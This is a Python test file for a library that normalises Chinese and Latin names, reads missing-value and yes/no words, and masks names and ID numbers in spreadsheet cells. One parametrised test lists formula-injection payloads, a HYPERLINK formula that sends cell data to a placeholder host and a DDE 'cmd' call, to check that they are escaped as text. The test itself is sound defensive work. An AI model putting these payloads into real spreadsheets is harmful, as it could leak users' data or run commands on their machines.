"""Names and words: one form for matching, and nothing computed by a spreadsheet."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fangpin.values.masks import mask_name, mask_value
from fangpin.values.text import header_key, is_missing, name_key, read_word, spreadsheet_safe
from tests.writing import CHINA


@pytest.mark.parametrize(
    "text", ["李 竹喜", "李竹喜\u3000", "李\u200b竹喜", " 李　竹 喜", "\ufeff李竹喜"]
)
def test_spaces_and_invisible_marks_do_not_part_a_name(text: str):
    assert name_key(text) == "李竹喜"


@pytest.mark.parametrize("dot", ["·", "•", "．", ".", "・", "･", " · ", "‧", "∙"])
def test_every_dot_of_a_transliterated_name_is_the_same(dot: str):
    assert name_key(f"阿依古丽{dot}买买提") == "阿依古丽·买买提"


def test_rare_characters_are_kept():
    assert name_key("𠮷田〇㛃") == "𠮷田〇㛃"


def test_latin_names_keep_their_space_and_lose_their_case():
    assert name_key("  John   SMITH ") == "john smith"


@given(st.text(max_size=20))
def test_the_form_for_matching_is_stable(name: str):
    assert name_key(name_key(name)) == name_key(name)


def test_headers_meet_without_marks_and_space():
    assert header_key("\ufeff姓 名*") == header_key("姓名")
    assert header_key("ID_Number") == header_key("id number")


def test_missing_words():
    own = CHINA.missing_words
    assert all(is_missing(text) for text in (None, "", "　", "--", "Ｎ/Ａ", "\u200b"))
    assert is_missing("无", words=own) and not is_missing("无")
    assert not any(is_missing(text, words=own) for text in ("0", "无名", "否"))


def test_words_of_a_code():
    words = {"yes": ["是", "有"], "no": ["否"]}
    assert [read_word(text, words) for text in ("是 ", "YES", "否", "不")] == [
        "yes",
        "yes",
        "no",
        None,
    ]


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://x/?"&A2)', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\t=1", "\r=1", "＝1",
     " =1", "－1", "＠x", "　=1"],
)  # fmt: skip
def test_a_formula_in_a_name_stays_text(text: str):
    assert spreadsheet_safe(text) == f"'{text}"


def test_plain_text_is_left_alone():
    assert spreadsheet_safe("李竹喜") == "李竹喜"


@pytest.mark.parametrize("kind", ["text", "code", "amount", "date", "name", "identifier", "phone"])
@pytest.mark.parametrize("value", ["李竹喜", "431022198503071234", "13812345678", "John Smith"])
def test_a_shifted_cell_leaks_neither_name_nor_number(kind: str, value: str):
    assert value not in mask_value(value, kind=kind)


@pytest.mark.parametrize("kind", ["amount", "date", "count", "month"])
@pytest.mark.parametrize("value", ["李竹喜400", "400元 李竹喜", "李竹喜431022198503071234"])
def test_a_name_beside_a_figure_is_masked(kind: str, value: str):
    assert "李竹喜" not in mask_value(value, kind=kind)


def test_words_of_a_figure_are_left_to_the_clerk():
    assert mask_value("约400元整", kind="amount") == "约400元整"
    assert mask_value("2020年2月三十日", kind="date") == "2020年2月三十日"


def test_masks_leave_what_a_clerk_needs():
    assert mask_value("2020-02-30", kind="date") == "2020-02-30"
    assert mask_value("4OO", kind="amount") == "4OO"
    assert mask_name("李竹喜") == "李**"
